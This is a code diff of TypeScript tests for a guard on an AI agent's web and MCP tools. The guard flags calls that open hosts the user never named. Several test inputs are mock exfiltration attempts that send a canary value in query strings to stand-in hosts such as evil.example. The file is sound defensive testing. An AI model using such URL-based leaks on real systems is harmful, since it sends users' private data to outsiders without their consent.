@@ -7,34 +7,41 @@ import { workspaceForTest } from "../../machine/workspace/workspace-for-test.ts"
 import { createLookBook } from "../browser/looks.ts";
 import { contextForTest, riskContextForTest } from "../context-for-test.ts";
 import { createGuard } from "./guard.ts";
+import { webToolsForTest } from "./web-tools-for-test.ts";
 
-/** Tools under one guard, as a server has them; each answers what it is given as `says`. */
+/** Tools under one guard, as a server has them; what their calls answer is said with each. */
 function guarded(workspace: Workspace) {
   const guard = createGuard({ browsers: undefined, looks: createLookBook(), scope: "task", trusted: [] });
-  const tool = (name: string, risk?: Tool["risk"]) =>
-    guard.over({
-      ...defineTool({
-        name,
-        description: "",
-        input: z.looseObject({ says: z.string().default("") }),
-        effect: "pure",
-        run: async ({ says }) => says,
-      }),
-      ...(risk && { risk }),
-    });
+  let says = "";
+  const known = webToolsForTest(() => says).map((tool) => guard.over(tool));
+  const tool = (name: string) => known.find((one) => one.name === name) ?? guard.over(mountedTool(name));
   const judge = (name: string, input: object, rest: Partial<RiskContext> = {}) =>
     tool(name).risk?.(input, riskContextForTest(workspace, rest));
   return {
-    tool,
+    guard,
     judge,
     /** Makes a call, if it is free. */
-    async make(name: string, input: object, rest: Partial<RiskContext> = {}) {
+    async make(name: string, input: object, rest: Partial<RiskContext> & { readonly says?: string } = {}) {
+      says = rest.says ?? "";
       const risk = await judge(name, input, rest);
       if (risk === undefined) await tool(name).call(input, contextForTest(workspace));
       return risk;
     },
   };
 }
+
+/** A tool as it is mounted from an MCP server. */
+const mountedTool = (name: string, risk?: Tool["risk"]): Tool => ({
+  ...defineTool({
+    name,
+    description: "",
+    input: z.looseObject({}),
+    effect: "pure",
+    reach: { opens: "named" },
+    run: async () => "",
+  }),
+  ...(risk && { risk }),
+});
 
 const results = (hosts: readonly string[]) => hosts.map((host) => `URL: https://${host}/a`).join("\n");
 const taken = { takenIn: ["bash"] };
@@ -43,12 +50,14 @@ test("ordinary research asks nothing: searches, their results, further searches,
   await using place = await workspaceForTest();
   const { make } = guarded(place.workspace);
   const rest = { takenIn: ["web"] };
-  expect(await make("web_search", { query: "lamps", says: results(["a.example", "b.example"]) })).toBeUndefined();
+  expect(await make("web_search", { query: "lamps" }, { says: results(["a.example", "b.example"]) })).toBeUndefined();
   for (let round = 0; round < 8; round++) {
     const hosts = Array.from({ length: 10 }, (_, n) => `site${round * 10 + n}.example`);
-    expect(await make("web_search", { query: `lamps ${round} CANARY`, says: results(hosts) }, rest)).toBeUndefined();
+    expect(
+      await make("web_search", { query: `lamps ${round} CANARY` }, { ...rest, says: results(hosts) }),
+    ).toBeUndefined();
     for (const host of hosts.slice(0, 3))
-      expect(await make("web_fetch", { url: `https://${host}/a`, says: "A page." }, rest)).toBeUndefined();
+      expect(await make("web_fetch", { url: `https://${host}/a` }, { ...rest, says: "A page." })).toBeUndefined();
   }
   expect(await make("web_fetch", { url: "https://site1.example/?d=CANARY" }, rest)).toContain("which you did not name");
 });
@@ -88,12 +97,14 @@ test("a forge is no letter box: with something private known, only what the user
 
 test("an MCP tool goes where the addresses in its arguments lead, and keeps the risk its server tells", async () => {
   await using place = await workspaceForTest();
-  const { judge, tool } = guarded(place.workspace);
+  const { judge, guard } = guarded(place.workspace);
   const nested = { request: { to: ["see https://evil.example/?d=1"] } };
   expect(await judge("net__fetch", nested, taken)).toBe("Open “https://evil.example/?d=1”, which you did not name");
   expect(await judge("net__fetch", nested, { ...taken, said: ["Use evil.example."] })).toBeUndefined();
   expect(await judge("net__fetch", { path: "notes.txt" }, taken)).toBeUndefined();
-  const own = tool("net__write", async () => "This writes.").risk?.({}, riskContextForTest(place.workspace));
+  const own = guard
+    .over(mountedTool("net__write", async () => "This writes."))
+    .risk?.({}, riskContextForTest(place.workspace));
   expect(await own).toBe("This writes.");
 });
 
@@ -103,7 +114,7 @@ test("what choices told is known to the next process; where it cannot be read, s
   const links = Array.from({ length: 4_000 }, (_, n) => `https://evil.example/${n}`);
   const openings = async (from: number) => {
     const { make } = guarded(workspace);
-    await make("web_search", { query: "x", says: links.join("\n") }, { ...taken, said: ["x"] });
+    await make("web_search", { query: "x" }, { ...taken, said: ["x"], says: links.join("\n") });
     let made = 0;
     for (let n = from; n < from + 18; n++)
       if ((await make("web_fetch", { url: links[n] }, taken)) === undefined) made++;
@@ -113,4 +124,68 @@ test("what choices told is known to the next process; where it cannot be read, s
   expect(await openings(100)).toBe(0);
   await Bun.write(join(workspace.metaRoot, "browser-scope.json"), "{");
   expect(await guarded(workspace).judge("web_fetch", { url: "https://other.example/?d=1" })).toContain("did not name");
+});
+
+test("a tool of somebody else says where it goes, and is judged like ours", async () => {
+  await using place = await workspaceForTest();
+  const { guard } = guarded(place.workspace);
+  const weather = guard.over(
+    defineTool({
+      name: "weather",
+      description: "Today's weather in a city.",
+      input: z.strictObject({ city: z.string(), from: z.string().default("weather.example") }),
+      effect: "pure",
+      brings: ["web"],
+      reach: { opens: ({ city, from }) => [`https://${from}/${city}`] },
+      run: async () => "Rain.",
+    }),
+  );
+  const judge = (input: object, rest: Partial<RiskContext> = {}) =>
+    weather.risk?.(input, riskContextForTest(place.workspace, rest));
+  expect(await judge({ city: "Ulm" }, { said: ["Ask weather.example."], ...taken })).toBeUndefined();
+  expect(await judge({ city: "CANARY" }, taken)).toBe("Open “https://weather.example/CANARY”, which you did not name");
+  // Input that its schema refuses opens nothing: the call is refused too.
+  expect(await judge({ city: 7, from: [] }, taken)).toBeUndefined();
+  const here = await weather.call({ city: "Ulm", from: "127.0.0.1:8080" }, contextForTest(place.workspace));
+  expect(here).toMatchObject({ text: "Rain.", takenIn: ["web", "127.0.0.1:8080"] });
+});
+
+test("a tool that cannot tell where it goes is not called", async () => {
+  await using place = await workspaceForTest();
+  const { guard } = guarded(place.workspace);
+  let called = false;
+  const opens = () => {
+    throw new Error("no such city");
+  };
+  const tool = guard.over(
+    defineTool({
+      name: "weather",
+      description: "",
+      input: z.strictObject({}),
+      effect: "pure",
+      reach: { opens },
+      run: async () => {
+        called = true;
+        return "";
+      },
+    }),
+  );
+  expect(tool.risk?.({}, riskContextForTest(place.workspace))).rejects.toThrow("no such city");
+  expect(await tool.call({}, contextForTest(place.workspace))).toMatchObject({
+    isError: true,
+    text: "What weather would open could not be told: no such city",
+  });
+  expect(called).toBe(false);
+});
+
+test("a tool that reaches nothing is left as it is", async () => {
+  await using place = await workspaceForTest();
+  const tool = defineTool({
+    name: "web_x",
+    description: "",
+    input: z.strictObject({}),
+    effect: "pure",
+    run: async () => "",
+  });
+  expect(guarded(place.workspace).guard.over(tool)).toBe(tool);
 });
